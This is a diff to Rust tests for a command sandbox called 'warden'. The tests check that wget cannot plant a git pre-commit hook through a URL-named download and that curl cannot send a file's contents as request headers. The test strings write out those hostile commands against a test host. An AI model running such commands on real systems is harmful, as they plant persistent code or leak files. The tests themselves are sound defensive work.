@@ -566,11 +566,11 @@ fn an_unprivileged_warden_reaches_allowed_hosts_through_a_user_namespace() {
     assert_eq!(net.requests(), ["GET /hello.txt HTTP/1.1"]);
 }
 
-/// wget names its output after the URL, and the policy sees only the URL, so from inside
-/// `.git/hooks` it writes a hook the user's own git would run later. Today the second layer
-/// stops it: the write verifier compares the protected set before and after, undoes the new
-/// hook and refuses the command (exit 126). (Predicting wget's name in the policy itself is
-/// still to do; this test keeps the route closed meanwhile.)
+/// wget names its output after the URL, so from inside `.git/hooks` it would write a hook the
+/// user's own git runs later. The default rule refuses wget without `-O` (first layer). A
+/// policy file of the user's own that lets it run anyway meets the second layer: the write
+/// verifier compares the protected set before and after, undoes the new hook and refuses the
+/// command (exit 126).
 #[test]
 fn wget_cannot_plant_a_git_hook_under_the_name_the_url_gives() {
     if !namespaces_available() {
@@ -589,7 +589,25 @@ fn wget_cannot_plant_a_git_hook_under_the_name_the_url_gives() {
         .unwrap();
     assert!(git.success());
     let hook = net.env.ws.join(".git/hooks/pre-commit");
-    let planted = net.exec(&[], "cd .git/hooks && wget -q http://pkgs.test/pre-commit");
+    let command = "cd .git/hooks && wget -q http://pkgs.test/pre-commit";
+    let refused = net.exec(&[], command);
+    assert_eq!(refused.status, 126, "{refused:?}");
+    assert!(
+        refused
+            .stderr
+            .contains("wget names the file it writes after the URL"),
+        "{refused:?}"
+    );
+    assert_eq!(net.requests(), Vec::<String>::new(), "nothing was fetched");
+    // The same wget rule without `needs_flag`, as a policy file of one's own may write it.
+    let policy = net.env.outside("policy").join("wget.toml");
+    std::fs::write(
+        &policy,
+        "[programs.wget]\nnetwork = true\nadded_args = [\"--no-config\"]\n\
+         unknown_flags = \"deny\"\nargs = \"value\"\nflags = { \"-q\" = \"flag\" }\n",
+    )
+    .unwrap();
+    let planted = net.exec(&["--policy", policy.to_str().unwrap()], command);
     assert_eq!(planted.status, 126, "{planted:?}");
     assert!(
         planted.stderr.contains("changed files warden protects")
@@ -597,6 +615,40 @@ fn wget_cannot_plant_a_git_hook_under_the_name_the_url_gives() {
         "{planted:?}"
     );
     assert!(!hook.exists(), "a hook was left behind: {planted:?}");
+}
+
+/// `curl -H @FILE` would send a file's lines as headers, which no read check saw: refused
+/// through the real binary before anything is sent, while a header given as text goes out.
+#[test]
+fn curl_sends_no_file_as_headers() {
+    if !namespaces_available() {
+        return;
+    }
+    let net = Net::allowing_pkgs();
+    std::fs::write(net.env.ws.join("notes.txt"), "X-Leak: the notes\n").unwrap();
+    for command in [
+        "curl -sS -H @notes.txt http://pkgs.test/hello.txt",
+        "cat notes.txt | curl -sS --header @- http://pkgs.test/hello.txt",
+    ] {
+        let refused = net.exec(&[], command);
+        assert_eq!(refused.status, 126, "{command}: {refused:?}");
+        assert!(
+            refused
+                .stderr
+                .contains("takes the value from a file or standard input the policy did not read"),
+            "{command}: {refused:?}"
+        );
+    }
+    assert_eq!(net.requests(), Vec::<String>::new(), "nothing was sent");
+    let sent = net.exec(
+        &[],
+        "curl -sS -H 'X-Plain: text' http://pkgs.test/hello.txt",
+    );
+    assert_eq!(sent.status, 0, "{sent:?}");
+    assert!(
+        sent.stdout.contains("hello from the test server"),
+        "{sent:?}"
+    );
 }
 
 /// `warden policy check` answers as `warden exec` would check: with `[network]` rules in the
